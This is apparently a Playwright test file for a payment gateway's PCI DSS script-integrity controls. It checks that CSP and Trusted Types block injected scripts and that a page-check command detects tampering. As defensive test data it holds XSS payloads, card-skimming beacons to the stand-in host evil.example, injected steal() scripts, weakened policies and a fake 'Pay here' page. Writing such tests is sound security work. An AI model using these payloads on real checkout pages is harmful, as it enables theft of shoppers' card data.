import { createHash } from 'node:crypto'
import { join } from 'node:path'
import type { Frame } from '@playwright/test'
import type { PaymentPages } from '#contract/builtPages'
import { readBuild } from '../../worker/cli/pagesCheck/build.ts'
import { checkPages } from '../../worker/cli/pagesCheck/checkPages.ts'
import { run } from '../../worker/cli/wrangler/processes.ts'
import { inRepository, repository } from '../../worker/cli/repository.ts'
import { expect, test } from '../support/fixtures.ts'
import { ChangedGateway, type Answer, type Change } from './tamperingProxy.ts'
import { CheckoutMaker, CheckoutPage } from '../pages/checkoutPage.ts'

/** What may run in the pages where a card is typed, and how a change of it comes to light (PCI DSS 4.0.1, 6.4.3 and 11.6.1). */

/** Does in a page what a script would do that got in, and says how each ended, and what the page heard of it. */
const breakIn = async (frame: Frame): Promise<{ ended: Record<string, string>; heard: () => Promise<string[]> }> => {
  const ended = await frame.evaluate(() => {
    const heard: string[] = []
    Object.assign(window, { heard })
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => heard.push(effectiveDirective))
    const { body } = document
    const policies = (window as never as { trustedTypes: { createPolicy: (name: string, rules: object) => unknown } })
      .trustedTypes
    const tries: Record<string, () => unknown> = {
      innerHTML: () => (document.createElement('div').innerHTML = '<img src="x" onerror="alert(1)">'),
      outerHTML: () => (body.appendChild(document.createElement('div')).outerHTML = '<img src="x">'),
      insertAdjacentHTML: () => body.insertAdjacentHTML('beforeend', '<img src="x">'),
      write: () => document.write('<script>alert(1)</script>'),
      srcdoc: () => (document.createElement('iframe').srcdoc = '<script>alert(1)</script>'),
      'src of a script': () => (document.createElement('script').src = 'https://evil.example/x.js'),
      'text of a script': () => (document.createElement('script').text = 'alert(1)'),
      parseFromString: () => new DOMParser().parseFromString('<img src="x">', 'text/html'),
      // oxlint-disable-next-line no-eval
      eval: () => (0, eval)('1'),
      Function: () => new Function('return 1')() as unknown,
      'a policy of its own': () => policies.createPolicy('evil', { createHTML: (text: string) => text }),
      'the policy of ours': () => policies.createPolicy('lit-html', { createHTML: (text: string) => text }),
    }
    // In a task of the page's own: what a debugger evaluates itself may call eval.
    return new Promise<Record<string, string>>((resolve) =>
      setTimeout(() => {
        const ends = Object.entries(tries).map(([name, attempt]) => {
          try {
            attempt()
            return [name, 'was let pass']
          } catch (error) {
            return [name, (error as Error).name]
          }
        })
        // These fail later, or without a word.
        new Image().src = 'https://evil.example/?card'
        fetch('https://evil.example/').catch(() => undefined)
        resolve(Object.fromEntries(ends) as Record<string, string>)
      }),
    )
  })
  return {
    ended,
    heard: () => frame.evaluate(() => [...new Set((window as never as { heard: string[] }).heard)].sort()),
  }
}

const refused = {
  innerHTML: 'TypeError',
  outerHTML: 'TypeError',
  insertAdjacentHTML: 'TypeError',
  write: 'TypeError',
  srcdoc: 'TypeError',
  'src of a script': 'TypeError',
  'text of a script': 'TypeError',
  parseFromString: 'TypeError',
  eval: 'EvalError',
  Function: 'EvalError',
  'a policy of its own': 'TypeError',
  'the policy of ours': 'TypeError',
}

const expectRefused = async (frame: Frame): Promise<void> => {
  const { ended, heard } = await breakIn(frame)
  expect(ended).toEqual(refused)
  await expect.poll(heard).toEqual(['connect-src', 'img-src', 'require-trusted-types-for', 'trusted-types'])
  expect(await frame.locator('img[src="x"]').count()).toBe(0)
}

test('a script that got into a payment page can write no HTML and no script, and call no other host', async ({
  page,
  form,
  local,
}) => {
  await form.open()
  await expectRefused(page.frames()[1]!)
  const checkout = new CheckoutPage(page, local.gateway)
  await checkout.open()
  await expectRefused(page.mainFrame())
})

const evil = 'https://evil.example'
const isCard = ({ path }: Answer) => path.startsWith('/card?')
const isCheckout = ({ path }: Answer) => path.startsWith('/checkout/')
const when =
  (is: (answer: Answer) => boolean, change: Change): Change =>
  (answer) => {
    if (is(answer)) change(answer)
  }
const policy =
  (from: string | RegExp, to: string): Change =>
  ({ headers }) => {
    headers['content-security-policy'] = headers['content-security-policy']!.replace(from, to)
  }
const body =
  (from: string | RegExp, to: string): Change =>
  (answer) => {
    answer.body = answer.body.replace(from, to)
  }

/** Somebody who changes a script, and everything that the gateway says of it. */
const thorough: Change = (answer) => {
  if (/^\/(embed|checkout-assets)\//.test(answer.path)) answer.body += ';'
  if (answer.path === '/sri.json') answer.body = answer.body.replaceAll(/sha384-[^"]+/g, 'sha384-theirs')
  if (answer.path.startsWith('/.well-known/')) {
    const listed = JSON.parse(answer.body) as PaymentPages
    for (const script of listed.pages.flatMap(({ scripts }) => scripts))
      script.integrity = `sha384-${createHash('sha384').update('theirs').digest('base64')}`
    answer.body = JSON.stringify(listed)
  }
}

/** What somebody changes on the way to the shopper, and what is said of it. */
const changes: Readonly<Record<string, readonly [change: Change, told: string]>> = {
  'one byte of the card form’s script': [
    when(isCard, body(/.<\/script>$/, ' </script>')),
    '/card?locale=en: an inline script that is not in the build',
  ],
  'one byte of its text': [when(isCard, body('Card number', 'Card Number')), 'differs from the build, from byte'],
  'one byte of the checkout’s script': [
    when(({ path }) => path.startsWith('/checkout-assets/'), body(/.$/, ' ')),
    'differs from the build',
  ],
  'one byte of the elements for merchants': [
    when(({ path }) => path === '/embed.js', body(/.$/, ' ')),
    '/embed.js: differs from the build',
  ],
  'a script in one language alone': [
    when(({ path }) => path.startsWith('/card?locale=de'), body('</script>', '</script><script>steal()</script>')),
    '/card?locale=de: an inline script that is not in the build',
  ],
  'a script for browsers alone': [
    when(
      (answer) =>
        isCheckout(answer) && /Chrome/.test(answer.asked['user-agent'] ?? '') && 'sec-fetch-dest' in answer.asked,
      body('</body>', '<script>steal()</script></body>'),
    ),
    'an inline script that is not in the build: sha384-',
  ],
  'a script of another host': [
    when(isCheckout, body('</head>', `<script src="${evil}/x.js"></script></head>`)),
    `a script was added: <script src="${evil}/x.js">`,
  ],
  'a page of their own': [
    when(isCheckout, (answer) => {
      answer.body = `<!doctype html><html lang="en"><a href="${evil}/">Pay here</a></html>`
    }),
    'the script is missing',
  ],
  'a handler of an event': [
    when(isCheckout, body('<main', '<main onclick="steal()"')),
    'an attribute that the gateway never writes, onclick',
  ],
  'a header less': [
    when(isCard, ({ headers }) => delete headers['permissions-policy']),
    '/card?locale=en: the header permissions-policy is missing',
  ],
  'a cookie': [when(isCheckout, ({ headers }) => (headers['set-cookie'] = 'a=1')), 'the header set-cookie was added'],
  'no policy at all': [
    when(isCheckout, ({ headers }) => delete headers['content-security-policy']),
    'the header content-security-policy is missing',
  ],
  'a weaker policy': [
    when(isCheckout, policy("'strict-dynamic'", "'strict-dynamic' 'unsafe-eval'")),
    "script-src has the extra source 'unsafe-eval'",
  ],
  'another host to send to': [
    when(isCard, policy("connect-src 'self'", `connect-src 'self' ${evil}`)),
    `connect-src has the extra source ${evil}`,
  ],
  'a policy without Trusted Types': [
    when(isCard, policy(/require-trusted-types-for 'script'; /, '')),
    'require-trusted-types-for is missing',
  ],
  'somebody who may frame it': [
    when(isCard, policy("frame-ancestors 'none'", `frame-ancestors ${evil}`)),
    `frame-ancestors has the extra origin ${evil}`,
  ],
  'the same nonce for all': [
    when(isCheckout, (answer) => {
      const nonce = /'nonce-([^']+)'/.exec(answer.headers['content-security-policy']!)![1]!
      const same = 'A'.repeat(22).concat('==')
      for (const name of ['content-security-policy', 'link'])
        if (answer.headers[name] !== undefined) answer.headers[name] = answer.headers[name].replaceAll(nonce, same)
      answer.body = answer.body.replaceAll(nonce, same)
    }),
    'two responses have the same nonce',
  ],
  'a script and all that is said of it': [thorough, 'differs from the build'],
}

test('whatever is changed on its way to the shopper is told by name, and nothing where nothing is', async ({
  local,
}) => {
  const maker = new CheckoutMaker(local.gateway)
  const [{ id }, framed] = await Promise.all([maker.make(), maker.make({ total: 5, iframe: true })])
  // The command below reads the card form in all languages.
  const build = { ...(await readBuild(inRepository('dist'))), cardLocales: ['en', 'de'] }
  const real = {
    gateway: new URL(local.gateway),
    build,
    checkout: framed.id,
    key: local.publishableKey,
    framedBy: null,
  }
  // In test mode anybody may frame the pages of an account that names nobody. That is all there is to say of them.
  const anybody = 'Content-Security-Policy: frame-ancestors has the extra origin *'
  expect((await checkPages({ ...real, framedBy: ['https://shop.example'] })).faults).toEqual(
    ['/card?locale=en', '/card?locale=de', `/checkout/${framed.id}`].map((path) => `${path}: ${anybody}`),
  )

  const changed = new ChangedGateway(local.gateway)
  const between = { ...real, gateway: await changed.open(), checkout: id, key: null }
  try {
    expect((await checkPages(between)).faults).toEqual([])
    for (const [name, [change, told]] of Object.entries(changes)) {
      changed.change = change
      expect((await checkPages(between)).faults.join('\n'), name).toContain(told)
    }
  } finally {
    await changed.close()
  }
})

/** The command, with the build that is there: it would make another where a source is newer. */
const check = (gateway: string) =>
  run({
    command: process.execPath,
    args: [join('worker', 'cli', 'pagesCheck', 'main.ts'), gateway, '--dist', inRepository('dist')],
    cwd: repository,
  })

test('the command for a weekly job ends well where nothing is changed, and with code 1 where anything is', async ({
  local,
}) => {
  const changed = new ChangedGateway(local.gateway)
  changed.change = changes['a header less']![0]
  const address = await changed.open()
  try {
    const [good, bad] = await Promise.all([check(local.gateway), check(address.origin)])
    expect(good.output).toContain('No differences.')
    expect(good.output).toContain('compared with the build')
    expect(bad.output).toContain('✗ /card?locale=de: the header permissions-policy is missing')
    expect([good.code, bad.code]).toEqual([0, 1])
  } finally {
    await changed.close()
  }
})
